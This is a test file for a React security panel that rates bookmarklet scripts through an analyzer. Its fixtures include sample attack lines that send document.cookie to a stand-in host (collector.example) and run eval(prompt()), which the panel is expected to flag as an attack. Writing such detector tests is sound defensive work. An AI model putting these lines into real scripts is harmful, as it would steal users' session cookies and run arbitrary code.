// @vitest-environment happy-dom

import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { cleanup, fireEvent, render, screen, within } from "@testing-library/react";
import { afterEach, expect, it, vi } from "vitest";
import type { Rated } from "./live-analysis/use-live-analysis.ts";
import { SecurityPanel } from "./security-panel.tsx";

afterEach(cleanup);

/** The panel after the real analysis of a script. */
function show(settled: Rated, checking = false) {
	const [onLine, onAsk] = [vi.fn(), vi.fn()];
	const analysis = { now: settled, about: "", settled, checking };
	render(<SecurityPanel kind="bookmarklet" analysis={analysis} onLine={onLine} onAsk={onAsk} />);
	return { onLine, onAsk };
}
const rated = (code: string): Rated => ({ status: "checked", result: analyzeScript({ code }) });
const panel = () => screen.getByRole("region", { name: "Security check" });

it("shows badge, score out of 100, summary, vulnerabilities with their line, and recommendations", () => {
	const settled = rated('const all = 1;\nfetch("https://collector.example/?" + document.cookie);');
	if (settled?.status !== "checked") throw new Error("not checked");
	const { score, summary, vulnerabilities, recommendations } = settled.result;
	const { onLine } = show(settled);
	expect(vulnerabilities.length).toBeGreaterThan(0);
	expect(recommendations.length).toBeGreaterThan(0);
	within(panel()).getByText("High Risk");
	within(panel()).getByText(`Score ${score} out of 100`);
	within(panel()).getByText(summary);
	const severities = { critical: "Critical", high: "High", medium: "Medium", low: "Low" };
	const items = panel().querySelectorAll("ol > li");
	expect(items).toHaveLength(vulnerabilities.length);
	for (const [index, { severity, description, line }] of vulnerabilities.entries()) {
		const item = items[index]?.textContent ?? "";
		expect(item).toContain(severities[severity]);
		expect(item).toContain(description);
		expect(item).toContain(`Line ${line}`);
	}
	for (const recommendation of recommendations)
		expect(within(panel()).getAllByText(recommendation).length).toBeGreaterThan(0);
	fireEvent.click(within(panel()).getAllByRole("button", { name: "Go to line 2 in the editor" })[0] ?? document.body);
	expect(onLine).toHaveBeenCalledWith(2);
});

it("says the verdict with the path of an attack, folds the other findings, and says what the script could do", () => {
	show(rated('const all = document.cookie;\nfetch("https://collector.example/?" + all);\neval(prompt());'));
	within(panel()).getByText("Looks like an attack");
	const path = within(panel()).getAllByRole("list", { name: "The path of the data" });
	expect(path.map((steps) => steps.firstElementChild?.textContent)).toEqual(["reads document.cookie Line 1"]);
	expect(
		within(panel())
			.getByText(/^\d other findings?$/)
			.closest("details")?.open,
	).toBe(false);
	const access = within(panel()).getByRole("list", { name: "Access" });
	expect(access.textContent).toContain("Reads cookies");
	expect(access.textContent).toContain("Contacts collector.example");
	cleanup();
	show(rated("document.addEventListener('click', () => eval(prompt()));"));
	within(panel()).getByText("Worth a look");
	expect(panel().querySelector("[aria-label='The path of the data']")).toBeNull();
});

it("shows for each finding what to change, and the level without it", () => {
	const settled = rated('fetch("https://collector.example/?" + document.cookie);');
	if (settled?.status !== "checked") throw new Error("not checked");
	const [finding] = settled.result.vulnerabilities;
	if (!finding) throw new Error("nothing found");
	const vulnerabilities = [finding, { ...finding, severity: "medium" as const, advice: "Ask first." }];
	show({ ...settled, result: { ...settled.result, vulnerabilities } });
	const [grave, mild] = panel().querySelectorAll("ol > li");
	expect(grave?.textContent).toContain(`What to change: ${finding.advice}`);
	expect(grave?.textContent).toContain("Without this finding the script would be rated Medium Risk.");
	expect(mild?.textContent).toContain("What to change: Ask first.");
	expect(mild?.textContent).toContain("Without this finding the script would still be rated High Risk");
});

it("asks the assistant about one finding, by its rule, severity and line", () => {
	const { onAsk } = show(rated('const all = 1;\nfetch("https://collector.example/?" + document.cookie);'));
	fireEvent.click(within(panel()).getByRole("button", { name: "Explain this: Cookie exfiltration, line 2" }));
	expect(onAsk.mock.calls).toEqual([
		["Explain the finding “Cookie exfiltration” (Critical) in line 2 of this script."],
	]);
});

it("shows a harmless script as Low Risk without findings", () => {
	show(rated("document.title = document.title.trim();"));
	within(panel()).getByText("Low Risk");
	within(panel()).getByText("Score 100 out of 100");
	within(panel()).getByText("No findings.");
});

it("gives no score and no color to what was not rated", () => {
	show(rated("let = ("));
	within(panel()).getByText("Not rated");
	expect(panel().textContent).not.toMatch(/Score|Low Risk/);
	cleanup();
	show({ status: "not-rated", reason: "took-too-long" });
	within(panel()).getByText("Not rated");
	within(panel()).getByText(/The check took longer than 3 seconds and was stopped/);
	cleanup();
	show(null, true);
	within(panel()).getByText("Checking…");
	cleanup();
	show(null);
	within(panel()).getByText("Nothing to check yet.");
});
